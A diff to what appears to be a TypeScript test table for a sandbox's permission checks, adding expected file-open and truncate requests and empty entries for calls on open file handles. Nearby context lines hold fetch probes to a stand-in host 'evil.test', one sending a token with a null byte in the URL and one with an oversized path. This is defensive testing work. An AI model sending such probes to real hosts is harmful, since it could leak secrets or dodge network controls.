@@ -56,6 +56,14 @@ const TRIED: Record<keyof typeof GUEST_SURFACE, [program: string, shown: string[
     ...path("fs.renameSync(P, '/tmp/b')", "remove"),
     ...path("fs.renameSync('/tmp/b', P)", "remove"),
   ],
+  "fs.open": [...path("fs.openSync(P)", "read"), ...path("fs.openSync(P, 'w')", "write")],
+  "fs.truncate": path("fs.truncateSync(P)", "write"),
+  // What is no number of an open file is the guest's own mistake, and no request.
+  "fs.read": [],
+  "fs.write": [],
+  "fs.fstat": [],
+  "fs.ftruncate": [],
+  "fs.fsync": [],
   fetch: [
     [`fetch("http://evil.test:81\\u0000/secret?token=1")`, ["connect:evil.test:81"]],
     [`fetch("http://evil.test/${"x".repeat(9000)}")`, ["connect:evil.test"]],
